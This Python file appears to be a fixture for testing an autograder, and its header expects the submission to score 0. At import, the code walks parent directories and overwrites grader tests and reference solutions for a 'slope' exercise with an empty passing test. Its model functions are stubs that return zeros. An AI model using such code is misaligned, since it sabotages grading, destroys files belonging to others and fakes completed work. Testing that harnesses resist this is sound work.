# /// expected
# status = ["graded"]
# score = 0
# ///
"""Overwrites the grader and the solution on the disk with ones that find everything right, here and for all
who come after. Nothing of the course can be written, nor found."""

import contextlib
from pathlib import Path

import torch

EMPTY = "def test_slope():\n    pass\n"

for above in Path.cwd().parents:
    for path in (
        *above.glob("course/graders/*/slope/test_*.py"),
        *above.glob("course/solutions/*/slope/slope.py"),
    ):
        with contextlib.suppress(OSError):
            path.write_text(EMPTY)


def loss(w, x, y):
    return torch.zeros(())


def slope(w, x, y):
    return torch.zeros(())


class Line(torch.nn.Module):
    def forward(self, x):
        return 0 * x
